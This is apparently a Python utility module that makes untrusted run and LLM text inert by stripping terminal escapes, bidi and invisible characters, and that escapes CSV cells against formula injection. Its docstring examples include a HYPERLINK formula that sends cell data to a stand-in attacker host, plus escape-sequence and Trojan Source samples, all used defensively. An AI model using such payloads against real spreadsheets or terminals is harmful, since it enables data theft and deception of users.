"""Untrusted text made inert: what a run or a model wrote can be read, and do nothing else.

Text from a failed run (its names, state messages, log lines) and from an LLM reaches
terminals, the Prefect UI, chat messages, spreadsheets and the model itself. `inert` removes
what could act there instead of being read:

* C0 and C1 control characters (BEL, backspace, ESC, DEL, ...), except newline and tab; a
  carriage return, and the Unicode line and paragraph separators, become a newline;
* terminal escape sequences whole: CSI (``ESC[2J`` clears the screen), OSC (``ESC]0;`` sets the
  window title, ``ESC]8;;URL`` makes a hyperlink), DCS, APC, PM and SOS strings, up to their
  terminator (BEL or ST) or the end of the line, and two-character escapes (``ESC c`` resets);
* bidirectional controls (U+202A-U+202E, U+2066-U+2069, U+200E, U+200F, U+061C), which make
  text display in another order than it is read (``Trojan Source``);
* zero-width and invisible characters (U+200B-U+200D, U+2060-U+2064, U+FEFF, U+180E,
  U+FFF9-U+FFFB) and Unicode tag characters (U+E0000-U+E007F), which can carry text a reader
  never sees but a model reads.

It is applied where run text enters, by the `Redactor` (so everything that is redacted is
inert too), and again before every output. `inert(inert(t)) == inert(t)`.

`capped` bounds one message (a log line can be any size; Prefect's own limit is 1 MB), saying
what was cut. `csv_cell` neutralises spreadsheet formulas in a CSV export (a cell starting
with ``=``, ``+``, ``-``, ``@``, tab or carriage return is prefixed with ``'``, the OWASP
advice), and `from_csv_cell` undoes exactly that when the file is read back.
"""

from __future__ import annotations

import re

#: Anything `inert` changes; most text holds none of it and is returned as it is.
_UNSAFE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u2064\u2066-\u2069"
    "\ufeff\ufff9-\ufffb\U000e0000-\U000e007f]"
)
#: Terminal escape sequences, whole: CSI; the string sequences (OSC, DCS, SOS, PM, APC) up to
#: BEL or ST, or up to the end of the line when unterminated; two-character escapes.
_SEQUENCE = re.compile(
    r"(?:\x1b\[|\x9b)[\x30-\x3f]*[\x20-\x2f]*[\x40-\x7e]?"
    r"|(?:\x1b[\]PX^_]|[\x90\x98\x9d\x9e\x9f])[^\x07\x1b\x9c\n]*(?:\x07|\x1b\\|\x9c)?"
    r"|\x1b[\x20-\x2f]*[\x30-\x7e]?"
)
_LINE_BREAK = re.compile("\r\n?|[\x85\u2028\u2029]")
_INVISIBLE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u180e\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069"
    "\ufeff\ufff9-\ufffb\U000e0000-\U000e007f]"
)


def inert(text: str) -> str:
    """``text`` without control characters (newline and tab kept), escape sequences, bidi
    controls and invisible characters (see the module docstring).

    Example:
        >>> inert("\\x1b]0;pwned\\x07ok\\x1b[2J \\u202egnp.exe\\u200b")
        'ok gnp.exe'
    """
    if not text or _UNSAFE.search(text) is None:
        return text
    text = _SEQUENCE.sub("", text)
    text = _LINE_BREAK.sub("\n", text)
    return _INVISIBLE.sub("", text)


def capped(text: str, limit: int) -> str:
    """``text`` at most about ``limit`` characters: its start and its end, with what was cut
    between them said in place (``[... 98,951,234 characters cut]``)."""
    if len(text) <= limit:
        return text
    keep = max(limit - 64, 2)
    head, tail = keep * 3 // 4, keep // 4
    cut = len(text) - head - tail
    return f"{text[:head]} [... {cut:,} characters cut] {text[len(text) - tail:]}"


#: What a spreadsheet reads as the start of a formula (OWASP's list for CSV injection).
_FORMULA = re.compile(r"'*[=+\-@\t\r]")


def csv_cell(value: str) -> str:
    """A CSV cell that a spreadsheet shows as text: one ``'`` before a cell that would start a
    formula (and before one that already starts with quotes and then would, so that
    `from_csv_cell` gives back exactly what was written).

    Example:
        >>> csv_cell('=HYPERLINK("http://evil.example/?d="&A1,"x")')[:12]
        "'=HYPERLINK("
    """
    return "'" + value if _FORMULA.match(value) else value


def from_csv_cell(value: str) -> str:
    """The cell's value as it was before `csv_cell` (a spreadsheet may also keep the ``'``)."""
    return value[1:] if value.startswith("'") and _FORMULA.match(value, 1) else value
